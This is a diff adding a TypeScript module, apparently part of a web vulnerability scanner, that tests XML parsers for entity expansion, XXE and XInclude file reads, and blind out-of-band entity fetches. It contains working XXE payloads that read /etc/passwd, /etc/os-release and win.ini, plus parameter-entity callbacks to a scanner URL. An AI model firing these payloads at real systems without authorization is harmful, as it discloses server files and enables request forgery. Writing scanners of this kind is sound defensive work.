@@ -1,0 +1,143 @@
+import type { Exchange } from '../../model/artifacts.ts'
+import type { CallbackUrl, ProbeContext, ProbeRequest } from '../../model/probe.ts'
+import { knownFiles, type SystemFile } from '../traversal/_knownFiles.ts'
+import type { XmlCarrier, XmlText } from './_xmlCarriers.ts'
+
+type XmlAttempt = { readonly request: ProbeRequest; readonly exchange: Exchange }
+
+type Sender = Pick<ProbeContext, 'send' | 'random'>
+
+/** Sends a document; null where no response came. */
+async function sendDocument(
+  { send }: Sender,
+  carrier: XmlCarrier,
+  text: XmlText,
+): Promise<XmlAttempt | null> {
+  const request = carrier.write(text)
+  const response = await send(request)
+  return response.ok ? { request, exchange: response.exchange } : null
+}
+
+/**
+ * Says whether references to entities of the document itself are replaced in the response. Most parsers do that, safe ones
+ * too: it says where a document is read, and no more.
+ */
+export async function readsEntities(
+  context: Sender,
+  carrier: XmlCarrier,
+): Promise<(XmlAttempt & { readonly isRead: boolean }) | null> {
+  const [first, second] = [context.random.word(8), context.random.word(8)]
+  const [one, other] = [context.random.word(5), context.random.word(5)]
+  const attempt = await sendDocument(context, carrier, {
+    declared: `<!ENTITY ${one} "${first}"><!ENTITY ${other} "${second}">`,
+    value: `&${one};&${other};`,
+  })
+  return attempt === null ? null : { ...attempt, isRead: attempt.exchange.body.includes(`${first}${second}`) }
+}
+
+/** A file that an external entity or an inclusion reads, and its URL. */
+type ReadableFile = { readonly file: SystemFile; readonly url: string }
+
+/** Harmless ones, the likeliest first. */
+const readableFiles: readonly ReadableFile[] = [
+  { file: knownFiles.osRelease, url: 'file:///etc/os-release' },
+  { file: knownFiles.passwd, url: 'file:///etc/passwd' },
+  { file: knownFiles.winIni, url: 'file:///C:/Windows/win.ini' },
+]
+
+/** Ways to name a file in a document. */
+type Inclusion = { readonly name: string; readonly write: (url: string, word: string) => XmlText }
+
+export const externalEntity: Inclusion = {
+  name: 'an external entity',
+  write: (url, word) => ({
+    declared: `<!ENTITY ${word} SYSTEM "${url}">`,
+    value: `&${word};`,
+  }),
+}
+
+export const xInclude: Inclusion = {
+  name: 'XInclude',
+  write: (url, word) => ({
+    declared: '',
+    value: `<${word} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${url}"/></${word}>`,
+  }),
+}
+
+/** A file as the application has shown it, twice, and what it shows in place of one that does not exist. */
+export type FileProof = ReadableFile & {
+  readonly inclusion: Inclusion
+  readonly line: string
+  readonly again: XmlAttempt
+  readonly missing: XmlAttempt
+}
+
+/** Reads a file through a document, with the control; null where nothing proves it. */
+export async function readFileThrough(
+  context: Sender,
+  carrier: XmlCarrier,
+  inclusion: Inclusion,
+  { filesMax = readableFiles.length }: { readonly filesMax?: number } = {},
+): Promise<FileProof | null> {
+  const read = (url: string) => sendDocument(context, carrier, inclusion.write(url, context.random.word(5)))
+  for (const readable of readableFiles.slice(0, filesMax)) {
+    const { file, url } = readable
+    const first = await read(url)
+    if (first === null || file.recognize(first.exchange.body) === null) continue
+    const missing = await read(`${url}-${context.random.word()}`)
+    const again = await read(url)
+    if (missing === null || again === null) return null
+    const line = file.recognize(again.exchange.body)
+    if (line === null || file.recognize(missing.exchange.body) !== null) return null
+    return { ...readable, inclusion, line, again, missing }
+  }
+  return null
+}
+
+/** A document that makes a parser fetch a URL of the scan, by an entity in its text and by one in its declarations. */
+export type CallingDocument = XmlAttempt & {
+  readonly carrier: XmlCarrier
+  readonly urls: readonly CallbackUrl[]
+}
+
+/** All URLs together get this long after the last was sent. */
+const waitMsMax = 3_000
+const waitStepMs = 250
+
+type Caller = Sender & Pick<ProbeContext, 'callbacks' | 'left' | 'wait'>
+
+/** Sends a document to each carrier, and gives those whose parser has fetched what it names. */
+export async function callThrough(
+  context: Caller,
+  carriers: readonly XmlCarrier[],
+  { isControl = false }: { readonly isControl?: boolean } = {},
+): Promise<readonly CallingDocument[]> {
+  const { callbacks, random, left, wait } = context
+  const sent: CallingDocument[] = []
+  for (const carrier of carriers) {
+    if (callbacks === null || left() === 0) break
+    const urls = [await callbacks.open(), await callbacks.open()]
+    const [inText = '', inDeclaration = ''] = urls.map(({ url }) => url)
+    const [general, parameter] = [random.word(5), random.word(5)]
+    const attempt = await sendDocument(
+      context,
+      carrier,
+      isControl
+        ? { declared: '', value: `${inText} ${inDeclaration}` }
+        : {
+            declared: `<!ENTITY ${general} SYSTEM "${inText}"><!ENTITY % ${parameter} SYSTEM "${inDeclaration}">%${parameter};`,
+            value: `&${general};`,
+          },
+    )
+    if (attempt !== null) sent.push({ ...attempt, carrier, urls })
+  }
+  const isCalled = ({ urls }: CallingDocument) => urls.some(({ wasCalled }) => wasCalled())
+  for (
+    let waitedMs = 0;
+    waitedMs < waitMsMax && !sent.every(isCalled) && sent.length > 0;
+    waitedMs += waitStepMs
+  ) {
+    await wait(waitStepMs)
+  }
+  return sent.filter(isCalled)
+}
